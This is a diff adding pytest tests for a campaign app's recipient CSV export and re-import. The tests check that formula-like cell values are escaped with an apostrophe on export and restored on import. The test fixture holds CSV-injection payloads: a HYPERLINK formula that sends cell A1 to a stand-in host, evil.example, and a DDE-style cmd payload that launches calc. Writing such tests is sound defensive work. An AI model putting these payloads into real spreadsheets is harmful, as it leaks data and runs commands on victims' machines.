@@ -16,6 +16,8 @@ import pytest
 from import_helpers import one_error, result_line, run_import, snapshot
 from openpyxl import load_workbook
 
+from campaign_app.core.directory.load import directory_files, load_directory
+
 HOSTILE = """\
 - id: hostile-1
   category: ngo
@@ -108,3 +110,53 @@ def test_csv_export_starts_with_a_bom_so_excel_reads_cyrillic(mini_ws, cli, tmp_
     assert cli("recipients", "export", target, "-w", mini_ws.root).code == 0
     data = target.read_bytes()
     assert data.startswith("\ufeff".encode()) and "Зеленський".encode() in data
+
+
+# A directory imported from a stranger's list, and values of every kind that start like a formula.
+ROUND_TRIP_CSV = """\
+id,category,given_name,family_name,position,organisation,email,postal_address,notes,salutation
+h-1,ngo,Eve,"=HYPERLINK(""http://evil.example""&A1,""click"")",+380 44 123 4567,-2+3,eve@example.org,"@SUM(1+1)*cmd|' /C calc'!A0",-12.5,'=already quoted
+h-2,ngo,Anna,Nowak,-7,'s-Hertogenbosch office,anna@example.org,"Rue Wiertz 60
+1047 Brussels",+1 555 0100 (office),Dear Anna
+"""
+
+
+def records(ws, ids) -> dict[str, dict]:
+    directory = load_directory(directory_files(ws / "recipients"))
+    return {r.id: r.record() for r in directory if r.id in ids}
+
+
+def test_a_csv_export_imported_again_gives_back_every_value(mini_ws, cli, tmp_path):
+    """The apostrophe that keeps a spreadsheet from running a cell is taken away by the
+    import: before, the export's '=HYPERLINK(…) came back with its apostrophe, and a phone
+    number as '+380 44 123 4567."""
+    mini_ws.write("recipients/hostile.csv", ROUND_TRIP_CSV)
+    before = records(mini_ws.root, ("h-1", "h-2"))
+    assert before["h-1"]["position"] == "+380 44 123 4567"
+    result = cli("recipients", "export", "out.csv", "-w", "ws", "--query", "category:ngo")
+    assert result.code == 0, result.err
+    written = {r["id"]: r for r in csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8-sig")))}
+    assert written["h-1"]["family_name"] == '\'=HYPERLINK("http://evil.example"&A1,"click")'
+    assert written["h-1"]["position"] == "'+380 44 123 4567"  # a spreadsheet keeps its plus
+    assert written["h-1"]["organisation"] == "'-2+3"
+    assert written["h-1"]["postal_address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert written["h-1"]["notes"] == "-12.5"  # a negative number stays a number
+    assert written["h-1"]["salutation"] == "''=already quoted"
+    assert written["h-2"]["position"] == "-7" and written["h-2"]["organisation"] == "'s-Hertogenbosch office"
+    assert written["h-2"]["notes"] == "'+1 555 0100 (office)"
+
+    (mini_ws.root / "recipients" / "hostile.csv").unlink()
+    result = run_import(cli, tmp_path / "out.csv")
+    assert result.code == 0, result.err
+    assert result_line(result.out) == "Result: 2 added, 0 updated, 0 unchanged, 0 skipped (of 2 rows)."
+    assert records(mini_ws.root, ("h-1", "h-2")) == before
+
+
+def test_a_csv_export_imported_over_its_directory_changes_nothing(mini_ws, cli, tmp_path):
+    mini_ws.write("recipients/hostile.csv", ROUND_TRIP_CSV)
+    assert cli("recipients", "export", "out.csv", "-w", "ws", "--query", "category:ngo").code == 0
+    before = snapshot(mini_ws.root)
+    result = run_import(cli, tmp_path / "out.csv", "--update")
+    assert result.code == 0, result.err
+    assert result_line(result.out) == "Result: 0 added, 0 updated, 2 unchanged, 0 skipped (of 2 rows)."
+    assert snapshot(mini_ws.root) == before
